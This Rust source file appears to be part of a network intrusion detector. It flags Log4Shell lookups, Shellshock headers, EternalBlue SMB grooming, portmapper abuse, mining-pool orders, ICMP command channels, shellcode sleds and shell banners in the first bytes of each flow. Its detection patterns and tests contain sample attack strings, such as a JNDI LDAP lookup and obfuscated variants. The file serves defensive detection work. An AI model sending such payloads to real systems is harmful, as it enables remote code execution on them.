//! What the first bytes of a flow betray that no log shows: requests inside sessions that are seen from their middle, code
//! look-ups in headers and forms, programs and shells over bare TCP, orders of coin mining, shellcode.
//!
//! Each flow's first kilobytes on either side are looked through once, whatever protocol reads it; what is found goes to the
//! detectors as a fact (`_mark`) and into no log. Source: the detectors that read them, `exploit`, `c2` and `mining`. Left
//! out: patterns that two chunks share, and everything past the first kilobytes but requests.

use crate::peers;
use contract::{FlowInfo, Side, Transport};
use memchr::memmem::{self, Finder};
use memchr::{memchr, memchr_iter};
use std::sync::LazyLock;

/// So many bytes of each side are looked through: headers and first messages; what comes later is content.
const LOOKED_BYTES_MAX: usize = 2048;
/// Requests of one flow that are told of: enough to tell a rhythm, few enough to cost nothing.
const REQUESTS_MAX: u8 = 64;
/// The longest text that is handed on, in bytes.
const TEXT_BYTES_MAX: usize = 240;
/// A header line past this, of those that name a thing or two, is no browser's, in bytes; lists of encodings take some fifty.
const HEADER_BYTES_MAX: usize = 400;
/// Credentials of a remote procedure call past this, in bytes, are no user's and groups' numbers; RFC 5531 allows 400.
const CREDENTIALS_BYTES_MAX: u32 = 256;
/// Echo requests carry some 32 to 56 bytes, and more to try out a path's limits; orders need hundreds.
const ECHO_BYTES_MIN: usize = 400;
/// A sled shorter than this, in bytes, may be chance.
const SLED_BYTES_MIN: usize = 24;

/// What is searched for in every flow's first bytes, made ready once.
static FORM: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"%24%7"));
static GREETING: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"Microsoft Windows [Version "));
static IDENTITY: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"uid=0(root) gid=0(root)"));

/// What was looked at in one flow.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Marks {
    looked: [u16; 2],
    requests: u8,
    /// The originator's first request was a POST.
    posted: bool,
    /// The last echo request's number, and how often it came again.
    echo: (u16, u8),
}

/// Something found: what, and the bytes that show it.
pub(crate) type Mark<'a> = (&'static str, &'a [u8]);

impl Marks {
    /// Looks at the next bytes of a side. `unknown`: no protocol was recognised so far.
    pub(crate) fn look<'a>(&mut self, side: Side, data: &'a [u8], info: &FlowInfo, unknown: bool) -> Option<Mark<'a>> {
        if info.transport == Transport::Icmp {
            return self.echo(side, data);
        }
        let tcp = info.transport == Transport::Tcp;
        let looked = &mut self.looked[side.index()];
        let smb = matches!(info.resp.1, 139 | 445);
        if usize::from(*looked) >= LOOKED_BYTES_MAX && !smb && !(unknown && info.midstream) {
            return None;
        }
        if tcp
            && unknown
            && info.midstream
            && self.requests < REQUESTS_MAX
            && let Some(line) = request_line(data)
        {
            self.requests += 1;
            *looked = looked.saturating_add(data.len().min(LOOKED_BYTES_MAX) as u16);
            return Some(("request", line));
        }
        if tcp && side.is_orig() && self.requests < REQUESTS_MAX && smb && second_part(data) {
            self.requests += 1;
            return Some(("smb_secondary", b""));
        }
        let first = *looked == 0;
        // A length, or another header of four bytes, may come in a segment of its own.
        let early = *looked <= 4;
        let window = &data[..data.len().min(LOOKED_BYTES_MAX.saturating_sub(usize::from(*looked)))];
        *looked += window.len() as u16;
        if window.is_empty() {
            return None;
        }
        if first && let Some(mark) = peers::first(window, tcp) {
            return Some(mark);
        }
        self.posted |= first && side.is_orig() && window.starts_with(b"POST ");
        let found = match side {
            Side::Orig => asked(window, first, info, unknown),
            Side::Resp if first && info.resp.1 == 111 => portmap_answer(window, info.transport),
            Side::Resp => None,
        };
        found.or_else(|| shell(window, info, unknown, self.posted)).or_else(|| if tcp && early && unknown { program(window) } else { None })
    }
}

impl Marks {
    /// Echo requests that all have the same number and carry much: programs that count do so to know their answers apart, and
    /// those that carry orders need not (Pingback).
    fn echo<'a>(&mut self, side: Side, message: &[u8]) -> Option<Mark<'a>> {
        let (head, payload) = message.split_first_chunk::<8>()?;
        if !side.is_orig() || head[0] != 8 || payload.len() < ECHO_BYTES_MIN {
            return None;
        }
        let number = u16::from_be_bytes([head[6], head[7]]);
        let (last, times) = &mut self.echo;
        *times = if *last == number && number != 0 { times.saturating_add(1) } else { 0 };
        *last = number;
        (*times == 2).then_some(("echo_orders", b"three echo requests of one number that carry much"))
    }
}

/// What only the side that opens a flow sends.
fn asked<'a>(window: &'a [u8], first: bool, info: &FlowInfo, unknown: bool) -> Option<Mark<'a>> {
    if let Some(text) = lookup(window) {
        return Some(("lookup", text));
    }
    if let Some(text) = form(window) {
        return Some(("lookup", text));
    }
    if first && let Some(mark) = stratum(window) {
        return Some(mark);
    }
    if first && request_line(window).is_some() {
        return header(window);
    }
    let port = info.resp.1;
    if first && port == 445 && groom(window) {
        return Some(("smb_groom", b"an empty SMB 2 header of 65,527 bytes"));
    }
    if port == 111
        && let Some(mark) = portmap(window, info.transport)
    {
        return Some(mark);
    }
    if unknown { sled(window) } else { None }
}

/// The line of an HTTP request at the beginning of a segment.
fn request_line(data: &[u8]) -> Option<&[u8]> {
    const METHODS: [&[u8]; 7] = [b"GET /", b"POST /", b"HEAD /", b"PUT /", b"OPTIONS /", b"GET http", b"POST http"];
    if !METHODS.iter().any(|method| data.starts_with(method)) {
        return None;
    }
    let end = memchr(b'\r', &data[..data.len().min(LOOKED_BYTES_MAX)])?;
    let line = &data[..end];
    (memmem::rfind(line, b" HTTP/1.").is_some()).then(|| cut(line))
}

fn cut(text: &[u8]) -> &[u8] {
    let text = &text[..text.len().min(TEXT_BYTES_MAX)];
    &text[..text.iter().position(|byte| *byte < b' ').unwrap_or(text.len())]
}

/// `${jndi:ldap://…}` and its disguises: look-ups that Log4j 2 resolves in whatever it writes down (CVE-2021-44228).
fn lookup(window: &[u8]) -> Option<&[u8]> {
    const NAMES: [&[u8]; 6] = [b"lower:", b"upper:", b"::-", b"env:", b"sys:", b"date:"];
    memchr_iter(b'$', window).find_map(|at| {
        let rest = window.get(at + 1..)?.strip_prefix(b"{")?;
        let begins = |text: &[u8], name: &[u8]| text.get(..name.len()).is_some_and(|text| text.eq_ignore_ascii_case(name));
        let plain = begins(rest, b"jndi:");
        // One look-up inside another, or behind it without a gap, hides a word; a template has no reason to.
        let inner = memmem::find(&rest[..rest.len().min(TEXT_BYTES_MAX)], b"${").map(|place| &rest[place + 2..]);
        let hidden = inner.is_some_and(|inner| NAMES.iter().any(|name| begins(inner, name)));
        (plain || hidden).then(|| cut(&window[at..]))
    })
}

/// The same in a form, where `${` is `%24%7B`: what stands between is enough to tell.
fn form(window: &[u8]) -> Option<&[u8]> {
    FORM.find_iter(window).find_map(|at| {
        let rest = window.get(at + 6..)?;
        let begins = |names: &[&[u8]]| names.iter().any(|name| rest.get(..name.len()).is_some_and(|text| text.eq_ignore_ascii_case(name)));
        let inner = rest.get(..6).is_some_and(|next| next.eq_ignore_ascii_case(b"%24%7b"));
        (begins(&[b"jndi:", b"jndi%3a"]) || inner).then(|| cut(&window[at..]))
    })
}

/// Orders between a miner and its pool: JSON-RPC lines, by the names of their methods.
fn stratum(window: &[u8]) -> Option<Mark<'_>> {
    if window.first() != Some(&b'{') {
        return None;
    }
    let has = |text: &[u8]| memmem::find(window, text).is_some();
    let pool =
        has(b"\"mining.subscribe\"") || has(b"\"mining.authorize\"") || has(b"\"eth_submitLogin\"") || has(b"\"eth_submitHashrate\"");
    let login = has(b"\"login\"") && has(b"\"pass\"") && has(b"\"method\"");
    (pool || login || has(b"\"mining.submit\"")).then(|| ("stratum", cut(window)))
}

/// What a request's header carries that no browser sends.
fn header(window: &[u8]) -> Option<Mark<'_>> {
    if let Some(at) = memmem::find(window, b"() {") {
        return Some(("shellshock", cut(&window[at..])));
    }
    window
        .split(|byte| *byte == b'\n')
        .skip(1)
        .find(|line| line.len() > HEADER_BYTES_MAX && is_short_by_nature(line))
        .map(|line| ("overlong_header", cut(line)))
}

/// Headers that name a thing or two; cookies, tokens, referrers and policies may be long.
fn is_short_by_nature(line: &[u8]) -> bool {
    const NAMES: [&[u8]; 10] = [
        b"accept-encoding:",
        b"accept-language:",
        b"accept-charset:",
        b"from:",
        b"host:",
        b"connection:",
        b"range:",
        b"te:",
        b"expect:",
        b"upgrade:",
    ];
    NAMES.iter().any(|name| line.get(..name.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(name)))
}

/// A connection that only holds kernel memory for EternalBlue: a session message of 65,527 bytes whose SMB 2 header is
/// empty, where a client begins with a negotiation.
fn groom(window: &[u8]) -> bool {
    window.len() >= 24 && window.starts_with(&[0, 0, 0xff, 0xf7, 0xfe, b'S', b'M', b'B']) && window[8..24].iter().all(|byte| *byte == 0)
}

/// The second part of an SMB 1 transaction at the beginning of a segment: needed past the buffer of a server only, so that
/// clients hardly ever send any, and attacks on MS17-010 send dozens.
fn second_part(data: &[u8]) -> bool {
    data.get(4..8) == Some(b"\xffSMB") && matches!(data.get(8), Some(0x26 | 0x33 | 0xa1))
}

/// What nobody asks of a port mapper over a network (RFC 1833): to register something, or with credentials of hundreds of bytes.
fn portmap(window: &[u8], transport: Transport) -> Option<Mark<'static>> {
    let call = if transport == Transport::Tcp { window.get(4..)? } else { window };
    let word = |place: usize| Some(u32::from_be_bytes(call.get(4 * place..4 * place + 4)?.try_into().ok()?));
    if word(1)? != 0 || word(2)? != 2 || word(3)? != 100_000 {
        return None;
    }
    let (credentials, verifier) = (word(7)?, || call.get(word(7)? as usize + 36..)?.first_chunk().map(|bytes| u32::from_be_bytes(*bytes)));
    match word(5)? {
        1 => Some(("portmap", b"SET: registers a program from another host")),
        2 => Some(("portmap", b"UNSET: unregisters a program from another host")),
        _ if credentials > CREDENTIALS_BYTES_MAX => Some(("portmap", b"credentials of more than 256 bytes")),
        _ if verifier().is_some_and(|bytes| bytes > CREDENTIALS_BYTES_MAX) => Some(("portmap", b"a verifier of more than 256 bytes")),
        _ => None,
    }
}

/// An address of hundreds of bytes as the port mapper's answer to GETADDR (CVE-2022-26937): others take a few dozen.
fn portmap_answer(window: &[u8], transport: Transport) -> Option<Mark<'static>> {
    const ADDRESS_BYTES: std::ops::RangeInclusive<u32> = 257..=65_535;
    let (answer, length) = if transport == Transport::Tcp {
        let length = u32::from_be_bytes(*window.first_chunk()?) & 0x7fff_ffff;
        (window.get(4..)?, length)
    } else {
        (window, window.len() as u32)
    };
    let word = |place: usize| Some(u32::from_be_bytes(answer.get(4 * place..4 * place + 4)?.try_into().ok()?));
    let accepted = word(1)? == 1 && word(2)? == 0 && word(4)? == 0 && word(5)? == 0;
    let bytes = word(6)?;
    // GETPORT answers with a number alone; only text goes on behind its length.
    (accepted && ADDRESS_BYTES.contains(&bytes) && length >= bytes + 28).then_some(("portmap", b"an address of more than 256 bytes"))
}

/// Instructions that do nothing, one after the other, then the code that finds out where it lies: a jump to a call back to
/// a `pop` (`eb xx 5x`), or `fnstenv`.
fn sled(window: &[u8]) -> Option<Mark<'_>> {
    let idle = |byte: u8| matches!(byte, 0x40..=0x5f | 0x90 | 0x98 | 0x99 | 0xf8 | 0xf9 | 0xfc | 0xf5 | 0x27 | 0x2f | 0x37 | 0x3f);
    let mut run = 0;
    for (at, byte) in window.iter().enumerate() {
        if run >= SLED_BYTES_MIN {
            let jump = *byte == 0xeb && window.get(at + 2).is_some_and(|next| matches!(next, 0x58..=0x5f));
            let stored = window[at..].starts_with(&[0xd9, 0xee, 0xd9, 0x74, 0x24, 0xf4]);
            if jump || stored {
                return Some(("sled", b"instructions that do nothing, then code that looks for its own address"));
            }
        }
        run = if idle(*byte) { run + 1 } else { 0 };
    }
    None
}

/// The greeting of a Windows command line, or the answer of `id` for the administrator: in a stream of no known protocol or as
/// the answer to a POST. In a page that was merely asked for, as in files, somebody may have written it.
fn shell<'a>(window: &'a [u8], info: &FlowInfo, unknown: bool, posted: bool) -> Option<Mark<'a>> {
    if matches!(info.resp.1, 22 | 23 | 992) {
        // Where shells are at home.
        return None;
    }
    if let Some(at) = GREETING.find(window) {
        return (unknown || posted).then(|| ("shell", cut(&window[at..])));
    }
    let at = IDENTITY.find(window)?;
    (posted || (unknown && !window.starts_with(b"HTTP/1"))).then(|| ("shell", cut(&window[at..])))
}

/// A program at the very beginning of a stream that no protocol carries, by itself or behind its length.
fn program(window: &[u8]) -> Option<Mark<'static>> {
    [window, window.get(4..).unwrap_or_default()].into_iter().find_map(|bytes| {
        if bytes.starts_with(b"\x7fELF") && bytes.get(6) == Some(&1) {
            return Some(("program", &b"ELF"[..]));
        }
        let header = bytes.get(0x3c..0x40).and_then(|place| place.try_into().ok()).map(u32::from_le_bytes)? as usize;
        (bytes.starts_with(b"MZ") && bytes.get(header..)?.starts_with(b"PE\0\0")).then_some(("program", b"PE"))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use model::{Addr, Timestamp, Uid};

    fn flow(port: u16, midstream: bool) -> FlowInfo {
        FlowInfo {
            uid: Uid::connection(&[]),
            orig: (Addr::v4([10, 0, 0, 1]), 40_000),
            resp: (Addr::v4([10, 0, 0, 2]), port),
            transport: Transport::Tcp,
            start: Timestamp::from_secs(0),
            midstream,
            note: Box::default(),
        }
    }

    fn first(side: Side, port: u16, data: &[u8]) -> Option<(&'static str, String)> {
        let found = Marks::default().look(side, data, &flow(port, false), true);
        found.map(|(what, text)| (what, String::from_utf8_lossy(text).into_owned()))
    }

    fn what(side: Side, port: u16, data: &[u8]) -> Option<&'static str> {
        first(side, port, data).map(|(what, _)| what)
    }

    #[test]
    fn lookups_are_found_in_their_disguises_and_templates_are_left_alone() {
        let request = |agent: &str| format!("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: {agent}\r\n\r\n");
        let found = first(Side::Orig, 80, request("${jndi:ldap://192.0.2.1/a}").as_bytes());
        assert_eq!(found, Some(("lookup", "${jndi:ldap://192.0.2.1/a}".to_owned())));
        assert_eq!(what(Side::Orig, 80, request("${${lower:j}ndi:rmi://x/y}").as_bytes()), Some("lookup"));
        assert_eq!(what(Side::Orig, 80, request("${${::-j}${::-n}di:x}").as_bytes()), Some("lookup"));
        assert_eq!(what(Side::Orig, 80, request("${env:HOME} costs $5").as_bytes()), None);
    }

    #[test]
    fn requests_count_only_where_the_beginning_was_missed() {
        let line = b"GET /news.php HTTP/1.1\r\nHost: a\r\n\r\n";
        let mut marks = Marks::default();
        let seen: Vec<_> = (0..100).filter_map(|_| marks.look(Side::Orig, line, &flow(80, true), true)).collect();
        assert_eq!((seen.len(), seen[0]), (usize::from(REQUESTS_MAX), ("request", &b"GET /news.php HTTP/1.1"[..])));
        assert_eq!(what(Side::Orig, 80, line), None);
    }

    #[test]
    fn miners_shells_programs_and_port_mappers() {
        let order = br#"{"id":1,"method":"mining.subscribe","params":["x/1.0"]}"#;
        assert_eq!(what(Side::Orig, 3333, order), Some("stratum"));
        assert_eq!(what(Side::Orig, 3333, br#"{"id":1,"method":"getinfo","params":[]}"#), None);
        let banner = b"Microsoft Windows [Version 6.1.7601]\r\n(c)";
        assert_eq!((what(Side::Orig, 4444, banner), what(Side::Resp, 23, banner)), (Some("shell"), None));
        let page = b"HTTP/1.1 200 OK\r\nContent-Length: 39\r\n\r\nuid=0(root) gid=0(root) groups=0(root)";
        assert_eq!(what(Side::Resp, 80, page), None);
        let mut marks = Marks::default();
        marks.look(Side::Orig, b"POST /wsman HTTP/1.1\r\n\r\n", &flow(5985, false), false);
        assert_eq!(marks.look(Side::Resp, page, &flow(5985, false), false).map(|(what, _)| what), Some("shell"));
        let mut program = vec![0_u8; 256];
        program[..2].copy_from_slice(b"MZ");
        program[0x3c] = 0x80;
        program[0x80..0x84].copy_from_slice(b"PE\0\0");
        assert_eq!(what(Side::Resp, 4444, &program), Some("program"));
        let staged = [&[0, 1, 0, 0][..], &program].concat();
        assert_eq!(what(Side::Resp, 4444, &staged), Some("program"));
        assert_eq!(what(Side::Resp, 4444, b"MZ of no program at all, but a text that begins so; it goes on and on and on"), None);
        let call = |procedure: u8, credentials: u8| {
            let words = [7_u32, 0, 2, 100_000, 2, u32::from(procedure), 6, u32::from(credentials) * 100];
            [&[0x80, 0, 0, 28][..], &words.iter().flat_map(|word| word.to_be_bytes()).collect::<Vec<_>>()].concat()
        };
        assert_eq!((what(Side::Orig, 111, &call(1, 0)), what(Side::Orig, 111, &call(4, 4))), (Some("portmap"), Some("portmap")));
        assert_eq!(what(Side::Orig, 111, &call(4, 0)), None);
        let answer = [0x8000_0c00_u32, 7, 1, 0, 0, 0, 0, 2080].iter().flat_map(|word| word.to_be_bytes()).collect::<Vec<_>>();
        assert_eq!(what(Side::Resp, 111, &answer), Some("portmap"));
        let port = [0x8000_001c_u32, 7, 1, 0, 0, 0, 0, 2049].iter().flat_map(|word| word.to_be_bytes()).collect::<Vec<_>>();
        assert_eq!(what(Side::Resp, 111, &port), None);
    }

    #[test]
    fn echoes_of_one_number_that_carry_much_are_orders() {
        let flow = FlowInfo { transport: Transport::Icmp, ..flow(0, false) };
        let mut marks = Marks::default();
        let mut echo = |number: u16, bytes: usize| {
            let message = [&[8, 0, 0, 0, 0, 1][..], &number.to_be_bytes(), &vec![0; bytes]].concat();
            marks.look(Side::Orig, &message, &flow, true).map(|(what, _)| what)
        };
        assert_eq!((1..10).find_map(|number| echo(number, 1_400)), None);
        assert_eq!((0..10).find_map(|_| echo(1_234, 56)), None);
        assert_eq!((0..3).filter_map(|_| echo(1_234, 788)).collect::<Vec<_>>(), ["echo_orders"]);
    }

    #[test]
    fn a_sled_needs_code_behind_it() {
        let sled = [&[b'A'; 40][..], &[0xeb, 0x39, 0x59, 0x31, 0xc0]].concat();
        assert_eq!(what(Side::Orig, 1986, &sled), Some("sled"));
        assert_eq!(what(Side::Orig, 1986, &[b'A'; 2000]), None);
    }
}
